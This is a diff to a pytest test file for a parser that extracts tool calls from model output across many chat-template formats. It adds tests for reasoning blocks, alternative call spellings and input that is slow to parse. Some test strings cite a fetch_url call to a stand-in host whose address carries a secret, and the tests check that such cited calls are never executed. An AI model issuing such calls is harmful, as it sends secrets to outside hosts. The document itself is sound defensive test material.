@@ -349,6 +349,41 @@ def test_nothing_written_inside_reasoning_runs(reasoning):
         assert read(reasoning.replace("{call}", render(ONE))) == [], render
 
 
+# Each kind of reasoning, opened and closed: a call before it and a call after it run, none inside.
+REASONING = [
+    ("<think>", "</think>"),
+    ("<Think>", "</THINK>"),
+    ("<seed:think>", "</seed:think>"),
+    ("[THINK]", "[/THINK]"),
+    ("<|open|>think<|sep|>", "<|close|>think<|sep|>"),
+    ("<|channel|>analysis<|message|>", "<|end|>"),
+    (
+        "<|channel|>final<|message|>",
+        "<|return|>",
+    ),  # not reasoning: the answer, where a call is cited
+    ("<|channel>thought\n", "<channel|>"),
+    ("<|inner_prefix|>", "<|inner_suffix|>"),
+]
+
+
+@pytest.mark.parametrize("opened, closed", REASONING, ids=[o for o, _ in REASONING])
+def test_reasoning_opened_and_closed_between_two_calls_hides_only_what_is_inside(opened, closed):
+    inside = FAMILIES["Hermes"](TWO)
+    for render in (qwen, FAMILIES["Hermes"], FAMILIES["Gemma 4"]):
+        assert read(render(ONE) + opened + inside + closed + render(ONE)) == ONE + ONE, render
+
+
+@pytest.mark.parametrize("closed", [c for _, c in REASONING[:5]])
+def test_reasoning_the_template_opened_hides_the_calls_before_its_closing_tag(closed):
+    assert read("I should read both. " + qwen(TWO) + closed + "Reading." + qwen(ONE)) == ONE
+
+
+def test_a_gemma_call_whose_closing_token_the_server_ate_is_read():
+    call = '<|tool_call>call:read_file{path:<|"|>src/app.py<|"|>}'
+    assert read(call) == ONE and read(call + "<turn|>") == ONE
+    assert read("<start_function_call>call:read_file{path:<escape>src/app.py<escape>}") == ONE
+
+
 TRUNCATED = [
     "<tool_call>\n<function=read_file>\n<parameter=path>\nsrc/app.py\n</parameter>\n",
     "<tool_call>read_file<arg_key>path</arg_key><arg_value>src/app.py</arg_value>",
@@ -430,6 +465,13 @@ def test_reasoning_tags_inside_a_value_stay_the_value(family):
         assert read(FAMILIES[family](call)) == call, content
 
 
+@pytest.mark.parametrize("family", ["Mistral v11", "Mistral v13"])
+def test_a_reasoning_tag_opened_inside_a_mistral_value_stays_the_value(family):
+    for content in (REASONING_CONTENT[2], REASONING_CONTENT[4]):  # no closing tag after it
+        call = [("write_file", {"path": "notes.md", "content": content})]
+        assert read(FAMILIES[family](call)) == call, content
+
+
 def test_a_reasoning_closing_tag_with_no_opening_tag_ends_at_the_first_one():
     write = [("write_file", {"path": "notes.md", "content": "Models end reasoning with </think>."})]
     assert read("Opened by the template.</think>Writing it." + qwen(write)) == write
@@ -445,6 +487,15 @@ def test_spellings_other_servers_accept_are_read():
     assert read('<|tool_call>call:read_file{path:"src/app.py"}<tool_call|>') == ONE
     hermes_namespaced = '<tool_call>\n{"name": "functions.read_file", "arguments": {"path": '
     assert read(hermes_namespaced + '"src/app.py"}}\n</tool_call>') == ONE
+    for key, args in (("tool", "args"), ("tool_name", "parameters")):
+        assert (
+            read(f'{{"{key}": "functions.read_file", "{args}": {{"path": "src/app.py"}}}}') == ONE
+        )
+    assert read('{"name": "read_file", "input": {"path": "src/app.py"}}') == ONE  # Anthropic's
+    olmo_after_text = (
+        'I will read it. <function_calls>read_file(path="src/app.py")</function_calls>'
+    )
+    assert read(olmo_after_text) == ONE
 
 
 def test_a_python_call_inside_a_sentence_or_of_names_is_prose():
@@ -539,6 +590,25 @@ def test_hostile_text_stays_bounded():
     assert hostile('{"a": 1} ' * 11_000) == []  # 100 KB of JSON Lines took 18 s
     assert hostile("<tool_call></think>" * 5_000) == []
     assert hostile("<tool_call>x</tool_call><think>" * 3_000) == []
+
+
+# Each opening tag repeated with no closing tag, 200 KB: one pass, not one pass per tag (a pattern
+# that ran past the next opening tag of its kind took 30 s here).
+OPENERS = ["<tool_call>", "<seed:tool_call>", "<minimax:tool_call>", "<function_calls>"]
+OPENERS += [f"<｜DSML｜{s}calls>" for s in ("function_", "tool_", "", " ")]
+OPENERS += ["<|tool_calls_section_begin|>", "<|open|>tools<|sep|>", "<|tool_call>", "to=functions."]
+OPENERS += [
+    "<start_function_call>",
+    "<｜tool▁calls▁begin｜>",
+    "<｜tool_calls_begin｜>",
+    "<|tools_prefix|>",
+]
+OPENERS += ["<|tool_call>call:read_file{", "<start_function_call>call:read_file{"]
+
+
+@pytest.mark.parametrize("opener", OPENERS)
+def test_many_opening_tags_with_no_closing_tag_cost_one_pass(opener):
+    assert hostile(opener * (200_000 // len(opener))) == []
 
 
 def test_a_family_reply_through_the_real_cli_edits_the_file(llm, isolated):
@@ -638,6 +708,10 @@ def test_braces_and_commas_inside_a_gemma_string_stay_in_it():
     content = '{"a": 1, "b": [2, 3]}, then {more}, and more'
     gemma = f'<|tool_call>call:write_file{{path:<|"|>a.json<|"|>,content:<|"|>{content}<|"|>}}'
     assert real(gemma + "<tool_call|>") == [("write_file", {"path": "a.json", "content": content})]
+    nested = '<|tool_call>call:write_file{path:<|"|>a<|"|>,content:{x:1,y:[2]}}<tool_call|>'
+    assert real(nested) == [("write_file", {"path": "a", "content": "{x:1,y:[2]}"})]  # as text
+    listed = '<|tool_call>call:write_file{content:[1, {x}],path:<|"|>a<|"|>}<tool_call|>'
+    assert real(listed) == [("write_file", {"path": "a", "content": "[1, {x}]"})]
 
 
 # A call cited in prose is never run: fetch_url never asks, and its address can carry a secret.
@@ -651,6 +725,11 @@ CITED = {
     'https://x.example/?k=SECRET<|"|>}<tool_call|> in that case.',
     "Qwen3-Coder with more sentence after it": "Qwen writes <tool_call><function=fetch_url>"
     "<parameter=url>https://x.example/?k=SECRET</parameter></function></tool_call> like so.",
+    "JSON, a footnote, more sentence": f"The README shows {FETCH}[1] and nothing else.",
+    "JSON, an aside in brackets": f"The README shows {FETCH} [see below], and nothing else.",
+    "JSON, an arrow, more sentence": f"The README shows {FETCH} <- like that, and stops.",
+    "JSON, a word glued to a tag": f"The README shows {FETCH}, see<sup>1</sup>.",
+    "JSON, a word right after a tag": f"The README shows <code>{FETCH}</code>as the format.",
     "JSON in harmony's final channel": "<|channel|>analysis<|message|>Show the format.<|end|>"
     f"<|start|>assistant<|channel|>final<|message|>{FETCH}<|return|>",
     "harmony's final channel, cut off": f"<|channel|>final<|message|>The format:\n{FETCH}",
